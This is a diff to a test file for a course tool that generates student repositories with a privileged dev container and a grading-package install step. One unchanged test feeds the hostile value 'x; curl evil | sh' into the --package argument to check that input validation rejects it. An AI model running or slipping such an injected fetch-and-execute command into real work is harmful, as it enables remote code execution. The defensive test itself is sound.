@@ -143,6 +143,17 @@ describe('workflows', () => {
     expect((await actionlint([join(tmp, 'classroom.yml')])).code).toBe(0);
   });
 
+  it('the student repository carries a dev container in which ipclab can isolate tests (macOS, Windows)', async () => {
+    const repo = join(tmp, 'repo');
+    expect((await ipclab(['init', repo, '--exercise', 'pipe-copy', '--package', 'github:course/grading#v1'], tmp)).code).toBe(0);
+    const dc = JSON.parse(readFileSync(join(repo, '.devcontainer', 'devcontainer.json'), 'utf8'));
+    // privileged: Docker's default seccomp profile refuses the namespaces and mounts a test needs
+    expect(dc.privileged).toBe(true);
+    expect(dc.image).toMatch(/^mcr\.microsoft\.com\/devcontainers\/javascript-node:\d+-bookworm$/);
+    expect(dc.postCreateCommand).toBe('npm install --no-save --no-audit --no-fund github:course/grading#v1');
+    expect(readFileSync(join(repo, 'README.md'), 'utf8')).toMatch(/### On macOS or Windows[\s\S]*Reopen in Container[\s\S]*npx ipclab doctor/);
+  });
+
   it('init refuses a --package that is neither a file nor one plain package spec', async () => {
     const r = await ipclab(['init', join(tmp, 'repo'), '--exercise', 'pipe-copy', '--package', 'x; curl evil | sh'], tmp);
     expect(r.code).toBe(2);
